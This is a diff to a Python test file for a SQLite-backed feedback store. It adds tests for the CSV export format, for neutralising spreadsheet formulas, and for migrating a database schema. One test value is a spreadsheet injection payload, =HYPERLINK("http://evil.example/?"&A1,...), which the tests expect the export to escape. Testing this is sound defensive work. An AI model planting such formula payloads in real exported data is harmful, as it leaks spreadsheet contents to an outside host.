@@ -1,8 +1,11 @@
 """Feedback in a real SQLite file: stored, exported, suggested, and durable across SIGKILL."""
 
+import csv
+import io
 import json
 import os
 import signal
+import sqlite3
 import subprocess
 import sys
 
@@ -50,8 +53,49 @@ def test_export_formats(tmp_path):
     lines = export(store.rows(), "jsonl").splitlines()
     assert json.loads(lines[0])["question"] == "問題, 有逗號"
     csv_text = export(store.rows(), "csv")
-    assert csv_text.splitlines()[0] == "id,time,domain,model,rating,comment,question,answer,messages,gate_score,rails,refused"
+    assert csv_text.splitlines()[0] == ("id,time,domain,model,rating,comment,question,answer,messages,gate_score,rails,"
+                                        "refused,sources")
     assert '"問題, 有逗號"' in csv_text and '"引號"""' in csv_text
+
+
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"看這裡")', '\'=HYPERLINK("http://evil.example/?"&A1,"看這裡")'),
+    ("+886 2 1234", "'+886 2 1234"), ("-1+1", "'-1+1"), ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
+    ("海瑞是誰？", "海瑞是誰？"), ("1+1=2 嗎？", "1+1=2 嗎？"), ("", ""),
+]
+
+
+@pytest.mark.parametrize("text,cell", FORMULAS, ids=[str(i) for i in range(len(FORMULAS))])
+def test_csv_export_writes_no_formula_cells(tmp_path, text, cell):
+    store = FeedbackStore(tmp_path / "fb.sqlite3")
+    store.add(domain="mingqing", rating="down", question=text, answer=text, comment=text, model=text or None)
+    row = next(csv.DictReader(io.StringIO(export(store.rows(), "csv"), newline="")))
+    assert (row["question"], row["answer"], row["comment"], row["model"]) == (cell, cell, cell, cell)
+
+
+def test_cli_export_and_suggest_neutralize_formulas(tmp_path):
+    db = tmp_path / "fb.sqlite3"
+    FeedbackStore(db).add(domain="mingqing", rating="should_answer", question="=1+1", comment="@SUM(1,2)")
+    exported = run_cli("feedback", "export", "--format", "csv", "--db", str(db))
+    row = next(csv.DictReader(io.StringIO(exported.stdout, newline="")))
+    assert (row["question"], row["comment"]) == ("'=1+1", "'@SUM(1,2)")
+    suggested = run_cli("feedback", "suggest", "--db", str(db))
+    assert suggested.stdout.splitlines()[-1] == "      - \"'=1+1\"  # 1 次：'@SUM(1,2)"
+
+
+def test_a_database_from_before_sources_gets_the_column(tmp_path):
+    db = tmp_path / "fb.sqlite3"
+    with sqlite3.connect(db) as old:
+        old.execute("CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL, domain TEXT NOT NULL, "
+                    "model TEXT, rating TEXT NOT NULL, comment TEXT NOT NULL DEFAULT '', question TEXT NOT NULL DEFAULT '', "
+                    "answer TEXT NOT NULL DEFAULT '', messages TEXT NOT NULL DEFAULT '[]', gate_score REAL, "
+                    "rails TEXT NOT NULL DEFAULT '[]', refused INTEGER NOT NULL DEFAULT 0)")
+        old.execute("INSERT INTO feedback (time, domain, rating) VALUES ('t', 'mingqing', 'up')")
+    store = FeedbackStore(db)
+    store.add(domain="riscv", rating="down", sources=[{"number": 1, "doc": "pmp", "title": "PMP", "cited": True}])
+    assert [(r["domain"], r["sources"]) for r in store.rows()] == [
+        ("mingqing", []), ("riscv", [{"number": 1, "doc": "pmp", "title": "PMP", "cited": True}])]
 
 
 def test_suggest_lists_wrongly_refused_questions_once_for_review():
